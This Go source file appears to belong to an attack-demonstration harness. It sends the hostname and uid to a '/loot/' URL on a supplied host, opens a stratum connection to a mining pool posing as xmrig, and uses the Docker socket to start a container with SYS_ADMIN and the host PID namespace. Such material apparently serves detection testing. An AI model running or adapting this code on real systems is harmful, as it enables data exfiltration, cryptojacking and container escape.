package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"
)

// maxAnswer bounds what a tool reads of an answer.
const maxAnswer = 1 << 20

func runGet(ctx context.Context, args []string) error { return request(ctx, http.MethodGet, args) }
func runPut(ctx context.Context, args []string) error { return request(ctx, http.MethodPut, args) }

func request(ctx context.Context, method string, args []string) error {
	if err := need(args, 1); err != nil {
		return err
	}
	req, err := http.NewRequestWithContext(ctx, method, args[0], nil)
	if err != nil {
		return err
	}
	for _, header := range args[1:] {
		name, value, _ := strings.Cut(header, ":")
		req.Header.Set(name, value)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	_, err = io.Copy(os.Stdout, io.LimitReader(resp.Body, maxAnswer))
	return err
}

// runPayload stands for whatever an attacker brings along.
func runPayload(ctx context.Context, args []string) error {
	if err := need(args, 2); err != nil {
		return err
	}
	host, err := os.Hostname()
	if err != nil {
		return err
	}
	fmt.Printf("payload %s runs on %s as uid %d\n", args[1], host, os.Getuid())
	return request(ctx, http.MethodGet, []string{"http://" + args[0] + "/loot/" + url.PathEscape(args[1]+" "+host)})
}

// mineTime is how long the miner really computes.
const mineTime = time.Second

// runMiner is a miner up to the first hashes: subscribe, authorize, wait for
// work. It hashes for a moment and finds nothing.
func runMiner(ctx context.Context, args []string) error {
	if err := need(args, 4); err != nil {
		return err
	}
	pool, user := args[1], args[3]
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", pool)
	if err != nil {
		return err
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(5 * time.Second)); err != nil {
		return err
	}
	in := bufio.NewScanner(io.LimitReader(conn, maxAnswer))
	for _, line := range []string{
		`{"id":1,"method":"mining.subscribe","params":["xmrig/6.21.0"]}`,
		fmt.Sprintf(`{"id":2,"method":"mining.authorize","params":[%q,"x"]}`, user),
	} {
		if _, err := io.WriteString(conn, line+"\n"); err != nil {
			return err
		}
		if !in.Scan() {
			return errors.Join(errors.New("the pool hung up"), in.Err())
		}
	}
	if !in.Scan() || !strings.Contains(in.Text(), "mining.notify") {
		return errors.Join(errors.New("the pool gave no work"), in.Err())
	}
	n, sum := 0, sha256.Sum256(in.Bytes())
	for start := time.Now(); time.Since(start) < mineTime; n++ {
		sum = sha256.Sum256(sum[:])
	}
	fmt.Printf("the pool gave work; %d hashes\n", n)
	return nil
}

// runDocker does what the command line would: create a container, start it,
// and read its output, with nothing but the socket.
func runDocker(ctx context.Context, args []string) error {
	if err := need(args, 3); err != nil {
		return err
	}
	dial := func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "unix", args[0])
	}
	engine := &http.Client{Transport: &http.Transport{DialContext: dial}}
	call := func(method, path string, in any, out any) error {
		body, err := json.Marshal(in)
		if err != nil {
			return err
		}
		req, err := http.NewRequestWithContext(ctx, method, "http://engine"+path, bytes.NewReader(body))
		if err != nil {
			return err
		}
		req.Header.Set("Content-Type", "application/json")
		resp, err := engine.Do(req)
		if err != nil {
			return err
		}
		defer resp.Body.Close()
		answer, err := io.ReadAll(io.LimitReader(resp.Body, maxAnswer))
		if err != nil || resp.StatusCode >= http.StatusBadRequest {
			return errors.Join(fmt.Errorf("%s %s: %s: %s", method, path, resp.Status, answer), err)
		}
		if out == nil {
			return nil
		}
		return json.Unmarshal(answer, out)
	}
	var made struct{ ID string }
	err := call(http.MethodPost, "/containers/create?name=castellan-demo-"+args[2], map[string]any{
		"Image":      args[1],
		"Entrypoint": []string{"/bin/sleep", "60"},
		"Labels":     map[string]string{"castellan.demo": "attack"},
		"HostConfig": map[string]any{"CapAdd": []string{"SYS_ADMIN"}, "PidMode": "host", "NetworkMode": "none"},
	}, &made)
	if err != nil {
		return err
	}
	if err := call(http.MethodPost, "/containers/"+made.ID+"/start", nil, nil); err != nil {
		return err
	}
	fmt.Println(made.ID)
	return nil
}
